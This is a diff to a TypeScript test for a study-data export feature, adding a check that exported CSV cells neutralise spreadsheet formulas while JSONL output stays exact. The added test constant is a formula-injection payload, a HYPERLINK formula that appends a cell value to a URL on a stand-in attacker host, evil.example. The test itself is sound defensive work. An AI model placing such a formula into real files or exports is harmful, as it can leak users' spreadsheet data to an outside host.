@@ -11,6 +11,7 @@ import { pseudonymize } from './tables';
 import { parseCsv } from './testing/parse-csv';
 
 let db: Database;
+const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
 const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'collab-export-'));
 
 async function exportToFiles(opts: ExportOptions) {
@@ -56,7 +57,10 @@ describe('study export', () => {
       armKey: 'collabllm',
       externalId: 'PROLIFIC_BBB',
       outcome: null,
-      turns: [{ user: 'Hello', assistant: 'Hi there' }],
+      turns: [
+        { user: 'Hello', assistant: 'Hi there' },
+        { user: FORMULA, assistant: '-1 is a number here, but this cell is text' },
+      ],
     });
     await seedParticipant(db, studyId, { versionId: v2, armKey: 'collabllm', isPreview: true, source: 'preview', outcome: 'completed', turns: [{ user: 'preview msg', assistant: 'x' }] });
   });
@@ -76,7 +80,12 @@ describe('study export', () => {
     expect(participants.map((p) => p.external_id).sort()).toEqual(['PROLIFIC_AAA', 'PROLIFIC_BBB']);
 
     const messagesCsv = parseCsv(read(`${slug}/messages.csv`));
-    expect(messagesCsv).toHaveLength(6);
+    expect(messagesCsv).toHaveLength(8);
+    // Spreadsheet-safe CSV, exact JSONL.
+    expect(messagesCsv.find((m) => m.content?.includes('HYPERLINK'))?.content).toBe(`'${FORMULA}`);
+    expect(messagesCsv.find((m) => m.content?.includes('is a number here'))?.content).toBe("'-1 is a number here, but this cell is text");
+    expect(read(`${slug}/messages.jsonl`)).toContain(JSON.stringify(FORMULA));
+    expect(read(`${slug}/conversations.chat.jsonl`)).toContain(JSON.stringify(FORMULA));
     expect(messagesCsv.find((m) => m.seq === '0' && m.content?.startsWith('He said'))?.content).toBe(tricky);
     const messagesJsonl = read(`${slug}/messages.jsonl`).trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
     expect(messagesJsonl.filter((m) => m.content === tricky)).toHaveLength(1);
@@ -95,7 +104,7 @@ describe('study export', () => {
     expect(manifest.demoModelUsed).toBe(true);
     expect(manifest.studyVersions).toEqual([1, 2]);
     expect(manifest.app.version).toMatch(/^\d+\.\d+\.\d+/);
-    expect(manifest.files.find((f) => f.name === 'messages.csv')?.rows).toBe(6);
+    expect(manifest.files.find((f) => f.name === 'messages.csv')?.rows).toBe(8);
     expect(manifest.files.find((f) => f.name === 'participants.jsonl')?.rows).toBe(2);
     expect(manifest.files.find((f) => f.name === 'drafts.csv')?.rows).toBe(2);
 
